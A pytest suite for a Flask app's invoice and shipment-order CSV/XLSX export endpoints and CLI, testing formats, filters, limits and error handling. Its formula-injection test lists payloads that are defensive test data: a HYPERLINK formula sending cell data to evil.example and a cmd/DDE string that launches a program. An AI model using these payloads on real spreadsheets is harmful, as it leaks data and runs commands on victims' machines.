"""Exports: ``GET /api/invoices/export`` and ``/api/ots/export``, the writers and ``flask export``.

Files are read back with two independent readers (openpyxl and python-calamine; LibreOffice too when
installed). Expected values come from the ORM relationships, not from the export's own SELECT.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from python_calamine import CalamineWorkbook
from sqlalchemy import select
from sqlalchemy.orm import selectinload

from app.exports.columns import INVOICE_COLUMNS, OT_COLUMNS, Column, Kind
from app.exports.csv_writer import csv_chunks
from app.exports.formats import FORMATS, row_limit
from app.exports.xlsx_writer import xlsx_chunks
from app.extensions import db
from app.models import (
    ASSIGNMENT_METHOD_LABELS,
    BILLING_STATUS_LABELS,
    OT_PROVISION_STATUS_LABELS,
    OT_STATUS_LABELS,
    PROVIDER_TYPE_LABELS,
    PROVISION_STATUS_LABELS,
    Invoice,
    Ot,
    Provider,
)

TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")
INVOICE_HEADERS = [column.header for column in INVOICE_COLUMNS]
OT_HEADERS = [column.header for column in OT_COLUMNS]
INVOICE_KEYS = [column.key for column in INVOICE_COLUMNS]
OT_KEYS = [column.key for column in OT_COLUMNS]
NOTES, AMOUNT, NUMBER = (INVOICE_KEYS.index(key) for key in ("notes", "amount", "invoice_number"))
LAST_INVOICE_COLUMN = openpyxl.utils.get_column_letter(len(INVOICE_COLUMNS))
# APP_TIMEZONE's default, America/El_Salvador: UTC-6 all year (no daylight saving since 1988).
SV_OFFSET = dt.timedelta(hours=6)


# ---------------------------------------------------------------- helpers


def safe(text):
    """Independent statement of the OWASP rule the writers must apply."""
    return "'" + text if text and text.startswith(TRIGGERS) else text


def expected_invoices(app):
    """Each invoice as the export should show it, from the ORM relationships (newest first)."""
    with app.app_context():
        stmt = select(Invoice).options(
            selectinload(Invoice.ot).selectinload(Ot.client),
            selectinload(Invoice.ot).selectinload(Ot.carrier),
            selectinload(Invoice.provider),
        )
        rows = []
        for inv in db.session.scalars(stmt.order_by(Invoice.id.desc())):
            ot = inv.ot
            rows.append(
                {
                    "id": inv.id,
                    "invoice_number": safe(inv.invoice_number),
                    "ot_number": ot.ot_number if ot else None,
                    "operativo": ot.operativo if ot else None,
                    "client": ot.client.name if ot else None,
                    "master_bl": ot.master_bl if ot else None,
                    "house_bls": ", ".join(ot.house_bls) if ot and ot.house_bls else None,
                    "containers": ", ".join(ot.containers) if ot and ot.containers else None,
                    "carrier": ot.carrier.name if ot and ot.carrier else None,
                    "vessel": ot.vessel if ot else None,
                    "provider": inv.provider.name,
                    "provider_nit": inv.provider_nit,
                    "provider_type": PROVIDER_TYPE_LABELS[inv.provider.type],
                    "cost_type": inv.cost_type,
                    "amount": inv.amount,
                    "applicable_amount": inv.applicable_amount,
                    "issue_date": inv.issue_date,
                    "due_date": inv.due_date,
                    "provision_date": inv.provision_date,
                    "billing_date": inv.billing_date,
                    "provision_status": PROVISION_STATUS_LABELS[inv.provision_status],
                    "billing_status": BILLING_STATUS_LABELS[inv.billing_status],
                    "assignment_method": ASSIGNMENT_METHOD_LABELS[inv.assignment_method],
                    "match_confidence": inv.match_confidence,
                    "needs_review": "Sí" if inv.needs_review else "No",
                    "notes": safe(inv.notes),
                    "created_at": inv.created_at,
                }
            )
        return rows


def export(client, auth, path, status=200):
    """GET a whole export and close the response, as a WSGI server does (the body stays readable)."""
    with client.get(path, headers=auth) as response:
        body = response.get_data()
    assert response.status_code == status, body[:500]
    return response


def read_csv(body: bytes):
    assert body.startswith(b"\xef\xbb\xbf"), "CSV must start with a UTF-8 BOM"
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def xlsx_rows_openpyxl(body: bytes):
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    return workbook, workbook.active


def xlsx_rows_calamine(body: bytes, title: str):
    return CalamineWorkbook.from_filelike(io.BytesIO(body)).get_sheet_by_name(title).to_python(skip_empty_area=False)


def as_csv_text(value) -> str:
    if value is None:
        return ""
    if isinstance(value, dt.datetime):  # stored UTC, written as San Salvador's time with its offset
        return (value - SV_OFFSET).isoformat(sep=" ", timespec="seconds") + "-06:00"
    return str(value)


def close_to(read: dt.datetime, expected: dt.datetime) -> bool:
    return abs(read - expected) < dt.timedelta(milliseconds=1)


def add_invoice(app, **fields):
    with app.app_context():
        provider = db.session.scalars(select(Provider).limit(1)).first()
        values = {
            "invoice_number": "INJ-1",
            "provider_id": provider.id,
            "provider_nit": provider.nit,
            "cost_type": "OTRO",
            "amount": Decimal("-5.00"),
            "issue_date": dt.date(2026, 11, 1),
            "needs_review": False,
            "created_at": dt.datetime(2026, 11, 1, 12, 30, 15),
        }
        values.update(fields)
        invoice = Invoice(**values)
        db.session.add(invoice)
        db.session.commit()
        return invoice.id


# ---------------------------------------------------------------- XLSX


def test_xlsx_round_trip_through_openpyxl(client, auth, seeded):
    response = export(client, auth, "/api/invoices/export?format=xlsx")
    assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="invoices-') and disposition.endswith('.xlsx"')
    expected = expected_invoices(seeded)

    _, sheet = xlsx_rows_openpyxl(response.data)
    assert sheet.title == "Facturas"
    assert sheet.max_row == len(expected) + 1 == 301
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:{LAST_INVOICE_COLUMN}{len(expected) + 1}"
    client_letter = openpyxl.utils.get_column_letter(INVOICE_KEYS.index("client") + 1)
    assert sheet.column_dimensions[client_letter].width == 30
    header = sheet[1]
    assert [cell.value for cell in header] == INVOICE_HEADERS
    assert all(cell.font.b and cell.font.color.rgb == "FFFFFFFF" for cell in header)
    assert all(cell.fill.fill_type == "solid" and cell.fill.fgColor.rgb == "FF002060" for cell in header)

    formats = {
        Kind.DATE: "DD/MM/YYYY",
        Kind.DATETIME: "DD/MM/YYYY HH:MM",
        Kind.MONEY: "$#,##0.00",
        Kind.PERCENT: "0.0%",
    }
    for cells, row in zip(sheet.iter_rows(min_row=2), expected, strict=True):
        for cell, column in zip(cells, INVOICE_COLUMNS, strict=True):
            want = row[column.key]
            if want is None:
                assert cell.value is None, (column.key, cell.value)
                continue
            assert cell.data_type != "f", "no cell may become a formula"
            if column.kind in formats:
                assert cell.number_format == formats[column.kind], column.key
            if column.kind in (Kind.MONEY, Kind.PERCENT):
                assert cell.value == float(want), column.key
            elif column.kind == Kind.DATE:
                assert cell.value == dt.datetime.combine(want, dt.time()), column.key
            elif column.kind == Kind.DATETIME:
                assert close_to(cell.value, want - SV_OFFSET), (cell.value, want)
            else:
                assert cell.value == want, (column.key, cell.value, want)


def test_xlsx_round_trip_through_calamine(client, auth, seeded):
    body = export(client, auth, "/api/invoices/export").data  # xlsx is the default format
    expected = expected_invoices(seeded)
    rows = xlsx_rows_calamine(body, "Facturas")
    assert rows[0] == INVOICE_HEADERS
    assert len(rows) == len(expected) + 1
    for read, row in zip(rows[1:], expected, strict=True):
        for value, column in zip(read, INVOICE_COLUMNS, strict=True):
            want = row[column.key]
            if want is None:
                assert value == "", (column.key, value)
            elif column.kind in (Kind.INTEGER, Kind.MONEY, Kind.PERCENT):
                assert value == float(want), column.key
            elif column.kind == Kind.DATE:
                assert value == want, column.key  # calamine gives a date: the format says it is one
            elif column.kind == Kind.DATETIME:
                assert close_to(value, want - SV_OFFSET), (value, want)
            else:
                assert value == want, (column.key, value, want)


def test_xlsx_package_is_well_formed(client, auth, seeded):
    body = export(client, auth, "/api/invoices/export?format=xlsx").data
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        assert archive.testzip() is None
        names = set(archive.namelist())
        workbook = archive.read("xl/workbook.xml").decode()
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert {
        "[Content_Types].xml",
        "_rels/.rels",
        "xl/workbook.xml",
        "xl/_rels/workbook.xml.rels",
        "xl/styles.xml",
        "xl/worksheets/sheet1.xml",
    } <= names
    assert "_xlnm._FilterDatabase" in workbook and f"$A$1:${LAST_INVOICE_COLUMN}$301" in workbook
    # Schema order: sheetViews, cols, sheetData, then autoFilter.
    assert sheet.index("<sheetViews>") < sheet.index("<cols>") < sheet.index("<sheetData>") < sheet.index("<autoFilter")


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
def test_xlsx_opens_in_libreoffice_with_its_formats(client, auth, seeded, database_url, tmp_path):
    if not database_url.startswith("sqlite"):
        pytest.skip("the file does not depend on the database; once is enough for a 3 s LibreOffice run")
    (tmp_path / "export.xlsx").write_bytes(export(client, auth, "/api/invoices/export?format=xlsx").data)
    # Filter options: comma, quote, UTF-8, from line 1, ..., "save cell contents as shown" = true.
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path}/lo-profile",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,true",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "export.xlsx"),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    shown = list(csv.reader((tmp_path / "export.csv").open(encoding="utf-8", newline="")))
    expected = expected_invoices(seeded)
    assert shown[0] == INVOICE_HEADERS
    assert len(shown) == len(expected) + 1
    keys = [column.key for column in INVOICE_COLUMNS]
    first, want = dict(zip(keys, shown[1], strict=True)), expected[0]
    assert first["amount"] == f"${want['amount']:,.2f}"
    assert first["issue_date"] == want["issue_date"].strftime("%d/%m/%Y")
    assert first["created_at"] == (want["created_at"] - SV_OFFSET).strftime("%d/%m/%Y %H:%M")
    with_confidence = next(i for i, row in enumerate(expected) if row["match_confidence"] is not None)
    shown_confidence = shown[1 + with_confidence][keys.index("match_confidence")]
    assert shown_confidence == f"{expected[with_confidence]['match_confidence'] * 100:.1f}%"


# ---------------------------------------------------------------- CSV


def test_csv_round_trip(client, auth, seeded):
    response = export(client, auth, "/api/invoices/export?format=csv")
    assert response.mimetype == "text/csv"
    assert response.mimetype_params["charset"] == "utf-8"
    assert response.headers["Content-Disposition"].endswith('.csv"')
    rows = read_csv(response.data)
    expected = expected_invoices(seeded)
    assert rows[0] == INVOICE_HEADERS
    assert rows[1:] == [[as_csv_text(row[column.key]) for column in INVOICE_COLUMNS] for row in expected]
    # ISO dates and "." decimals, whatever the locale
    sample = dict(zip([column.key for column in INVOICE_COLUMNS], rows[1], strict=True))
    assert dt.date.fromisoformat(sample["issue_date"])
    assert Decimal(sample["amount"]) == expected[0]["amount"]
    assert "," not in sample["amount"]


def _day_month_year(day):
    return day.strftime("%d/%m/%Y") if day else ""


def expected_ot_row(ot) -> list[str]:
    """An OT as the team's 27-column sheet shows it (CSV text), from the ORM object."""
    date = lambda value: value.isoformat() if value else ""  # noqa: E731
    return [
        ot.operativo or "",
        ot.ot_number,
        ot.client.name,
        ", ".join(ot.house_bls),
        ot.master_bl or "",
        ", ".join(ot.containers),
        str(len(ot.containers)),
        ot.carrier.name if ot.carrier else "",
        ot.vessel or "",
        OT_STATUS_LABELS[ot.status],
        ot.shipment_type or "",
        ot.origin_port or "",
        ot.destination_port or "",
        date(ot.etd),
        date(ot.eta),
        date(ot.arrival_date),
        date(ot.provision_date),
        date(ot.billing_date),
        OT_PROVISION_STATUS_LABELS[ot.provision_status],
        BILLING_STATUS_LABELS[ot.billing_status],
        ot.express_release_type or _day_month_year(ot.express_release_date),
        ot.cash_on_delivery_type or _day_month_year(ot.cash_on_delivery_date),
        date(ot.billing_request_date),
        date(ot.closing_sent_date),
        as_csv_text(ot.created_at),
        as_csv_text(ot.updated_at),
        ot.comments or "",
    ]


def test_ot_export_has_the_teams_27_columns_in_their_order(client, auth, seeded):
    rows = read_csv(export(client, auth, "/api/ots/export?format=csv").data)
    assert rows[0] == OT_HEADERS
    assert len(OT_HEADERS) == 27 and OT_HEADERS[:3] == ["Operativo", "Número OT", "Cliente"]
    assert OT_HEADERS[-3:] == ["Fecha Creación", "Última Actualización", "Comentarios"]
    with seeded.app_context():
        ot = db.session.scalars(select(Ot).order_by(Ot.id.desc())).first()
        ot.express_release_type, ot.express_release_date = None, dt.date(2026, 3, 14)
        ot.cash_on_delivery_type = "Contra entrega"
        db.session.commit()
        ots = db.session.scalars(select(Ot).order_by(Ot.id.desc())).all()
        expected = [expected_ot_row(ot) for ot in ots]
    rows = read_csv(export(client, auth, "/api/ots/export?format=csv").data)
    assert rows[1:] == expected
    assert rows[1][OT_KEYS.index("express_release")] == "14/03/2026"
    assert rows[1][OT_KEYS.index("cash_on_delivery")] == "Contra entrega"

    _, sheet = xlsx_rows_openpyxl(export(client, auth, "/api/ots/export?format=xlsx").data)
    assert sheet.title == "OTs"
    assert [cell.value for cell in sheet[1]] == OT_HEADERS
    assert sheet.max_row == len(expected) + 1
    count = sheet.cell(row=2, column=OT_KEYS.index("container_count") + 1)
    assert (count.value, count.data_type) == (int(expected[0][6]), "n")
    eta = sheet.cell(row=2, column=OT_KEYS.index("eta") + 1)
    assert eta.number_format == "DD/MM/YYYY"


def test_lang_en_gives_english_headings_and_codes(client, auth, seeded):
    rows = read_csv(export(client, auth, "/api/invoices/export?format=csv&lang=en").data)
    assert rows[0][:3] == ["ID", "Invoice number", "OT"]
    statuses = {row[INVOICE_KEYS.index("provision_status")] for row in rows[1:]}
    assert statuses <= {"pending", "in_review", "provisioned"}
    assert {row[INVOICE_KEYS.index("needs_review")] for row in rows[1:]} == {"Yes", "No"}
    spanish = read_csv(export(client, auth, "/api/invoices/export?format=csv").data)
    assert spanish[0][:3] == ["ID", "Número Factura", "OT"]
    assert {row[INVOICE_KEYS.index("needs_review")] for row in spanish[1:]} == {"Sí", "No"}
    _, sheet = xlsx_rows_openpyxl(export(client, auth, "/api/ots/export?lang=en").data)
    assert sheet.cell(row=1, column=2).value == "OT number"
    response = client.get("/api/ots/export?lang=fr", headers=auth)
    assert response.status_code == 400 and response.get_json()["error"]["parameter"] == "lang"


# ---------------------------------------------------------------- same rows as the list endpoints


def list_ids(client, auth, path, query):
    ids, cursor = [], None
    while True:
        page = client.get(f"{path}?{query}&limit=500" + (f"&cursor={cursor}" if cursor else ""), headers=auth)
        assert page.status_code == 200, page.get_json()
        body = page.get_json()
        ids += [item["id"] for item in body["items"]]
        if not (cursor := body["next"]):
            return ids


@pytest.mark.parametrize(
    "query",
    [
        "billing_status=pending",
        "provision_status=provisioned,voided&needs_review=true",
        "q=Maersk",
        "q=OT0003",
        "issue_date_from=2026-03-01&issue_date_to=2026-06-30&amount_min=1000",
        "cost_type=ADUANA&created_to=2026-09-30",
    ],
)
def test_invoice_export_has_the_list_rows_in_the_list_order(client, auth, seeded, query):
    listed = list_ids(client, auth, "/api/invoices", query)
    assert listed, "the filter should match something in the seeded data"
    csv_ids = [
        int(row[0]) for row in read_csv(export(client, auth, f"/api/invoices/export?format=csv&{query}").data)[1:]
    ]
    _, sheet = xlsx_rows_openpyxl(export(client, auth, f"/api/invoices/export?format=xlsx&{query}").data)
    xlsx_ids = [row[0] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert csv_ids == listed
    assert xlsx_ids == listed


def _all_ots(client, auth):
    return client.get("/api/ots?limit=500", headers=auth).get_json()["items"]


@pytest.mark.parametrize("query", ["status=transito,cerrada", "q=MSC", "eta_from=2026-03-01"])
def test_ot_export_has_the_list_rows(client, auth, seeded, query):
    listed = list_ids(client, auth, "/api/ots", query)
    assert listed
    number_to_id = {item["ot_number"]: item["id"] for item in _all_ots(client, auth)}
    rows = read_csv(export(client, auth, f"/api/ots/export?format=csv&{query}").data)[1:]
    exported = [number_to_id[row[OT_KEYS.index("ot_number")]] for row in rows]
    assert exported == listed


@pytest.mark.parametrize(
    ("query", "parameter"),
    [
        ("format=pdf", "format"),
        ("format=csv&format=xlsx", "format"),
        ("billing_status=lost", "billing_status"),
        ("issue_date_from=yesterday", "issue_date_from"),
        ("limit=5", "limit"),  # pagination is not an export parameter: refused, not ignored
        ("colour=red", "colour"),
    ],
)
def test_bad_parameters_get_a_json_400(client, auth, seeded, query, parameter):
    response = client.get(f"/api/invoices/export?{query}", headers=auth)
    assert response.status_code == 400
    assert response.get_json()["error"]["parameter"] == parameter


def test_exports_need_a_token(client, seeded):
    for path in ("/api/invoices/export", "/api/ots/export"):
        response = client.get(path)
        assert response.status_code == 401
        assert response.get_json()["error"]["code"] == "unauthorized"


# ---------------------------------------------------------------- empty results, injection, hostile text


@pytest.mark.parametrize(("path", "headers"), [("invoices", INVOICE_HEADERS), ("ots", OT_HEADERS)])
def test_empty_result_is_a_valid_file_with_headers(client, auth, app, path, headers):
    rows = read_csv(export(client, auth, f"/api/{path}/export?format=csv").data)
    assert rows == [headers]
    body = export(client, auth, f"/api/{path}/export?format=xlsx").data
    _, sheet = xlsx_rows_openpyxl(body)
    assert [cell.value for cell in sheet[1]] == headers
    assert sheet.max_row == 1
    assert sheet.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(headers))}1"
    assert xlsx_rows_calamine(body, sheet.title) == [headers]


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]


def test_formula_injection_is_neutralised_in_both_formats(client, auth, seeded):
    ids = {add_invoice(seeded, invoice_number=f"=INJ{i}", notes=text) for i, text in enumerate(INJECTIONS)}
    query = "amount_max=0"  # only the invoices added here (seeded amounts are positive)
    rows = read_csv(export(client, auth, f"/api/invoices/export?format=csv&{query}").data)[1:]
    notes = {row[0]: row[NOTES] for row in rows}
    assert {int(key) for key in notes} == ids
    assert sorted(notes.values()) == sorted("'" + text for text in INJECTIONS)
    assert all(row[NUMBER].startswith("'=INJ") for row in rows)
    assert all(row[AMOUNT] == "-5.00" for row in rows), "a negative amount is a number, not a formula"

    body = export(client, auth, f"/api/invoices/export?format=xlsx&{query}").data
    _, sheet = xlsx_rows_openpyxl(body)
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert sorted(row[NOTES].value for row in cells) == sorted("'" + text for text in INJECTIONS)
    assert all(row[NOTES].data_type == "s" and row[NUMBER].data_type == "s" for row in cells)
    assert all(row[AMOUNT].value == -5.0 and row[AMOUNT].data_type == "n" for row in cells)
    calamine_notes = sorted(row[NOTES] for row in xlsx_rows_calamine(body, "Facturas")[1:])
    assert calamine_notes == sorted("'" + text for text in INJECTIONS)


def test_hostile_text_cannot_corrupt_the_xlsx(client, auth, seeded):
    hostile = "</t></is></c><c>]]><!-- & \"quoted\" 'x' \x01\x08\x0b\x0c\x1b\x1f\ufffe tail  "
    emoji = "  Contenedor 🚢 con tildes: áéíóú ñ  "
    add_invoice(seeded, invoice_number="HOSTILE-1", notes=hostile)
    add_invoice(seeded, invoice_number="HOSTILE-2", notes=emoji)
    body = export(client, auth, "/api/invoices/export?format=xlsx&amount_max=0").data
    readable = "</t></is></c><c>]]><!-- & \"quoted\" 'x'  tail  "  # XML-forbidden controls dropped
    _, sheet = xlsx_rows_openpyxl(body)
    assert sorted(row[NOTES] for row in sheet.iter_rows(min_row=2, values_only=True)) == sorted([readable, emoji])
    assert sorted(row[NOTES] for row in xlsx_rows_calamine(body, "Facturas")[1:]) == sorted([readable, emoji])
    # CSV carries text as it is (no XML rules), still neutralised where needed
    rows = read_csv(export(client, auth, "/api/invoices/export?format=csv&amount_max=0").data)[1:]
    assert sorted(row[NOTES] for row in rows) == sorted([hostile, emoji])


def test_writers_handle_text_the_database_may_not_hold():
    """NUL and a CR inside text (SQLite accepts them, PostgreSQL refuses NUL): checked on the writers directly."""
    columns = (Column("note", "Note", Kind.TEXT, 10), Column("n", "N", Kind.INTEGER, 5))
    chunk = [("a\x00b\rc", 1), ("x" * 40_000, 2), (None, None)]
    body = b"".join(xlsx_chunks(columns, [chunk], "T", dt.UTC))
    values = xlsx_rows_calamine(body, "T")
    assert values[1] == ["ab\rc", 1.0]
    assert values[2][0] == "x" * 32_767  # Excel's cell limit
    _, sheet = xlsx_rows_openpyxl(body)
    assert sheet["A2"].value == "ab\rc"
    text = b"".join(csv_chunks(columns, [chunk], dt.UTC)).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text, newline="")))[1] == ["a\x00b\rc", "1"]


def test_xlsx_writer_refuses_rows_beyond_a_sheet():
    """The route counts first; should rows appear meanwhile, the writer stops rather than write an unopenable sheet."""
    from app.exports.xlsx_writer import MAX_ROWS, SheetWriter, TooManyRows

    sheet = SheetWriter((Column("n", "N", Kind.INTEGER, 5),), dt.UTC)
    sheet.last_row = MAX_ROWS - 1
    assert '<row r="1048576">' in sheet._rows([(1,)])
    with pytest.raises(TooManyRows):
        sheet._rows([(2,)])


def test_xlsx_row_limit_is_excels():
    assert row_limit(FORMATS["xlsx"], 0) == 1_048_575
    assert row_limit(FORMATS["xlsx"], 500) == 500
    assert row_limit(FORMATS["csv"], 0) is None
    assert row_limit(FORMATS["csv"], 7) == 7


# ---------------------------------------------------------------- limits


def test_max_rows_guard_refuses_before_streaming(client, auth, seeded):
    seeded.config["EXPORT_MAX_ROWS"] = 50
    response = client.get("/api/invoices/export?format=csv", headers=auth)
    assert response.status_code == 422
    error = response.get_json()["error"]
    assert error["code"] == "export_too_large" and error["rows"] == 300 and error["limit"] == 50
    small = export(client, auth, "/api/invoices/export?format=csv&q=OT0003")
    assert 1 < len(read_csv(small.data)) <= 51
    export(client, auth, "/api/invoices/export?format=xlsx", status=422)


def test_concurrency_limit_gives_429_and_frees_the_slot(client, auth, seeded):
    from app.exports.limits import export_slots

    with seeded.app_context():
        slots = export_slots()
    first = [client.get("/api/invoices/export?format=csv", headers=auth, buffered=False) for _ in range(2)]
    assert [response.status_code for response in first] == [200, 200]  # EXPORT_MAX_CONCURRENT defaults to 2
    refused = client.get("/api/ots/export?format=xlsx", headers=auth)
    assert refused.status_code == 429
    assert refused.headers["Retry-After"].isdigit()
    assert refused.get_json()["error"]["code"] == "too_many_exports"
    for response in first:  # downloads that never started still give their slot back
        response.close()
    held = [slots.acquire() for _ in range(slots.limit)]  # both slots are free again
    for slot in held:
        slot.release()
    export(client, auth, "/api/ots/export?format=xlsx")


def test_disconnect_mid_stream_returns_the_connection(client, auth, seeded, monkeypatch):
    """Pooled connection back (or, for PostgreSQL's COPY-based exports, their own connection closed) on disconnect."""
    from app.exports.pg_csv import CopyOut

    copies = []
    original_init = CopyOut.__init__

    def recording_init(self, *args, **kwargs):
        copies.append(self)
        original_init(self, *args, **kwargs)

    monkeypatch.setattr(CopyOut, "__init__", recording_init)
    seeded.config["EXPORT_CHUNK_SIZE"] = 10
    with seeded.app_context():
        pool = db.engine.pool
        db.session.remove()
        assert pool.checkedout() == 0
        for fmt in ("csv", "xlsx"):
            copies.clear()
            response = client.get(f"/api/invoices/export?format={fmt}", headers=auth, buffered=False)
            pieces = iter(response.response)
            next(pieces)
            next(pieces)
            if copies:
                assert db.engine.dialect.name == "postgresql"
                assert not copies[0].connection.closed, "the COPY holds its own connection while it streams"
            else:
                assert pool.checkedout() == 1, "the export holds one connection while it streams"
            response.close()  # what the WSGI server does when the client goes away
            assert pool.checkedout() == 0
            if copies:
                assert copies[0].connection.closed
            else:
                assert pool.checkedin() >= 1


def test_a_failing_query_is_a_json_error_not_a_broken_file(client, auth, seeded, monkeypatch):
    from sqlalchemy import literal_column

    from app.exports import queries

    broken = queries.ExportDefinition(
        "invoices",
        "Invoices",
        INVOICE_COLUMNS,
        Invoice,
        queries.invoice_conditions,
        lambda conditions: select(literal_column("no_such_column")).select_from(Invoice),
    )
    monkeypatch.setitem(queries.EXPORTS, "invoices", broken)
    with seeded.app_context():
        pool = db.engine.pool
    response = client.get("/api/invoices/export?format=csv", headers=auth)
    assert response.status_code == 500
    assert response.get_json()["error"]["code"] == "internal_server_error"
    assert pool.checkedout() == 0
    export(client, auth, "/api/ots/export?format=csv")


# ---------------------------------------------------------------- CLI


def test_cli_writes_the_same_file_as_the_api(runner, client, auth, seeded, tmp_path):
    target = tmp_path / "pending.csv"
    result = runner.invoke(
        args=["export", "invoices", "--format", "csv", "-o", str(target), "--billing_status", "pending"]
    )
    assert result.exit_code == 0, result.output
    assert target.read_bytes() == export(client, auth, "/api/invoices/export?format=csv&billing_status=pending").data
    xlsx = tmp_path / "ots.xlsx"
    result = runner.invoke(args=["export", "ots", "--format", "xlsx", "-o", str(xlsx), "--status=transito,cerrada"])
    assert result.exit_code == 0, result.output
    _, sheet = xlsx_rows_openpyxl(xlsx.read_bytes())
    assert sheet.max_row - 1 == len(list_ids(client, auth, "/api/ots", "status=transito,cerrada"))


@pytest.mark.parametrize("filters", [["--billing_status", "lost"], ["--colour", "red"], ["--status"], ["stray"]])
def test_cli_rejects_bad_filters_and_leaves_no_file(runner, seeded, tmp_path, filters):
    target = tmp_path / "out.csv"
    result = runner.invoke(args=["export", "invoices", "--format", "csv", "-o", str(target), *filters])
    assert result.exit_code == 2, result.output
    assert list(tmp_path.iterdir()) == []


def test_cli_leaves_no_partial_file_when_writing_fails(runner, seeded, tmp_path, monkeypatch):
    from app.exports import formats

    def failing(definition, chunks):
        yield b"partial"
        raise RuntimeError("disk full")

    monkeypatch.setitem(formats.FORMATS, "csv", formats.ExportFormat("csv", "text/csv", failing, None))
    result = runner.invoke(args=["export", "invoices", "--format", "csv", "-o", str(tmp_path / "out.csv")])
    assert result.exit_code != 0
    assert list(tmp_path.iterdir()) == []
